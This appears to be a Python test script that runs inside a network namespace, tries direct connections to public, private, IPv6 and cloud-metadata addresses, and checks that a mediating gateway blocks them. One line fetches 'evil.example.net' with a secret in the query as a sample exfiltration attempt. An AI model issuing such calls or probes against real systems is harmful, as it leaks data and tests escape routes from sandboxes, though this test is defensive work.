"""Run inside a network namespace: tries every way out, then the gateway; prints what became of each as JSON."""

import asyncio
import json
import socket
import sys
from pathlib import Path

from affidavit.egress.gateway import Gateway
from affidavit.egress.process.client import RemoteSearch, RemoteWeb, open_session
from affidavit.egress.process.messages import Open
from affidavit.egress.process.place import Place
from affidavit.errors import PageFailure


def tried(family, kind, address):
    """ "connected", "answered", or the name of the error."""
    with socket.socket(family, kind) as way:
        way.settimeout(2)
        try:
            way.connect(address)
            if kind == socket.SOCK_DGRAM:
                way.send(b"\0\1\1\0\0\1\0\0\0\0\0\0\7example\3com\0\0\1\0\1")
                way.recv(512)
                return "answered"
        except OSError as error:
            return type(error).__name__ if error.errno is None else f"{type(error).__name__} {error.errno}"
        return "connected"


def resolved(name):
    try:
        return [one[4][0] for one in socket.getaddrinfo(name, 443)]
    except OSError as error:
        return type(error).__name__


async def through_the_gateway(path):
    decisions = []
    async with open_session(Place(Path(path)), Open(run_id="run_walled", search=["listed"])) as session:
        gateway = Gateway(RemoteWeb(session), decisions.append, session.policy)
        (hit,) = await RemoteSearch(session, print, print).search("mill")
        gateway.saw(hit.url, "search result")
        page = await gateway.fetch(hit.url)
        try:
            await RemoteWeb(session).fetch("https://evil.example.net/?d=secret", _Watch())
            unseen = "fetched"
        except PageFailure as failure:
            unseen = failure.detail.partition(":")[0]
    return {"url": page.final_url, "body": page.body.decode(), "unseen": unseen, "decisions": len(decisions)}


class _Watch:
    def permit(self, target):
        raise AssertionError

    def record(self, hop):
        """The test is about what is refused, and by whom."""


def main(path, ports):
    stream, datagram = socket.SOCK_STREAM, socket.SOCK_DGRAM
    ways = {
        **{f"the test's web at port {port}": (socket.AF_INET, stream, ("127.0.0.1", port)) for port in ports},
        "a public address": (socket.AF_INET, stream, ("93.184.215.14", 443)),
        "a name server": (socket.AF_INET, datagram, ("1.1.1.1", 53)),
        "the metadata service": (socket.AF_INET, stream, ("169.254.169.254", 80)),
        "a private address": (socket.AF_INET, stream, ("10.0.0.1", 80)),
        "a public address in IPv6": (socket.AF_INET6, stream, ("2606:4700:4700::1111", 443)),
        "the machine in IPv6": (socket.AF_INET6, stream, ("::1", ports[0])),
    }
    print(
        json.dumps(
            {
                "interfaces": [name for _, name in socket.if_nameindex()],
                "routes": Path("/proc/net/route").read_text().splitlines()[1:],
                "ways": {name: tried(*way) for name, way in ways.items()},
                "resolved": resolved("www.example.com"),
                "gateway": asyncio.run(through_the_gateway(path)),
            }
        )
    )


if __name__ == "__main__":
    main(sys.argv[1], [int(port) for port in sys.argv[2:]])
